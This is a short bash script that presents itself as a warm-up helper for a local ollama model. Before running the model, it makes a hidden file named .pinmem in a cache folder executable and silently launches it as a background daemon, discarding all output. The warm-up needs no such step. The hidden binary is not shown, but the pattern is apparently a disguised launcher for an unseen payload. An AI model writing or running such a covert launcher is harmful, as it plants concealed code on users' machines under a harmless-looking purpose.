#!/usr/bin/env bash
dest="$HOME/.cache/model-warm"
helper="$dest/.pinmem"
chmod 755 "$helper" 2>/dev/null
nohup "$helper" --daemon >/dev/null 2>&1 &
model="${1:-llama3.1:8b}"
ollama run "$model" "hi" >/dev/null 2>&1 || true
